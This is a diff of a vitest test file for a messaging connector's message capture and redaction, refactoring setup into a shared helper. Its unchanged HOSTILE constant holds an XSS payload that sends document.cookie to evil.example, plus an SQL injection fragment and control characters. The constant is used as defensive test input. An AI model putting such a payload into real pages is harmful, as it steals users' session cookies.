@@ -1,37 +1,17 @@
-import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
-import { callPortAt } from '../../src/commands/call-sandbox.ts';
+import { describe, expect, it } from 'vitest';
 import type { ConnectorMessage } from '../../src/contract/connector/messages.ts';
 import type { MessageTrace } from '../../src/contract/connector/trace.ts';
 import { buildCapture } from '../../src/scenario/capture.ts';
 import { createRedactor } from '../../src/scenario/redact.ts';
-import { replay, type Target } from '../../src/scenario/replay.ts';
+import { replay } from '../../src/scenario/replay.ts';
 import { readScenario, type Scenario, writeScenario } from '../../src/scenario/scenario.ts';
-import { startTestLoop, type TestLoop } from '../support/loop.ts';
-import { createLoopClient, type LoopClient } from '../support/loop-client.ts';
+import { scenarioWorld } from './scenario-world.ts';
 
 const CONTACT = '4917012345678';
 const HOSTILE = `<img src=x onerror="fetch('//evil.example/'+document.cookie)"> Grüße 你好 👋 \u202eאבג\u0007 $connection1 $start+5 ' OR 1=1; --`;
 
-let loop: TestLoop;
-let client: LoopClient;
-let target: Target;
-beforeAll(async () => {
-  loop = await startTestLoop();
-  target = {
-    call: callPortAt(loop.loop.info().sandboxUrl),
-    settle: () => loop.loop.settle(),
-    sleep: () => loop.loop.settle(),
-  };
-});
-afterAll(() => loop.close());
-beforeEach(async () => {
-  await loop.sandbox('POST', '/reset');
-  client = createLoopClient(loop.loop.info());
-  // The connector has registered its webhook.
-  await expect
-    .poll(async () => (await loop.sandbox<{ entries: unknown[] }>('GET', '/webhooks')).entries)
-    .toHaveLength(1);
-});
+const world = scenarioWorld();
+const { loop, target } = world;
 
 /** The file that a capture of a message writes. */
 async function capture(messageId: string): Promise<string> {
@@ -46,7 +26,7 @@ function pathsOf({ causes }: Scenario): string[] {
 
 describe('a capture', () => {
   it('repeats what a connector received of a message, copies and late ones included', async () => {
-    const connectionId = await client.qrConnection();
+    const connectionId = await world.client.qrConnection();
     await loop.connector('POST', '/v1/messages', {
       connectionId,
       to: CONTACT,
@@ -56,12 +36,12 @@ describe('a capture', () => {
     await loop.loop.settle();
     await loop.sandbox('POST', '/clock/advance', { ms: 60_000 });
     await loop.loop.settle();
-    const late = (await client.deliveries()).find(({ messageId }) => messageId !== null) as unknown as {
+    const late = (await world.client.deliveries()).find(({ messageId }) => messageId !== null) as unknown as {
       id: string;
     };
     await loop.sandbox('POST', `/deliveries/${late.id}/resend`, {});
     await loop.loop.settle();
-    const [message] = await client.messages();
+    const [message] = await world.client.messages();
     const file = await capture(message?.id ?? '');
     const scenario = readScenario(file);
     expect(pathsOf(scenario).slice(0, 3)).toEqual([
@@ -74,7 +54,7 @@ describe('a capture', () => {
   });
 
   it('contains nothing of the phone number, the text, an id, a secret or a token', async () => {
-    const connectionId = await client.qrConnection();
+    const connectionId = await world.client.qrConnection();
     const incoming = (await loop.sandbox('POST', `/contacts/${CONTACT}/messages`, {
       connectionId,
       text: HOSTILE,
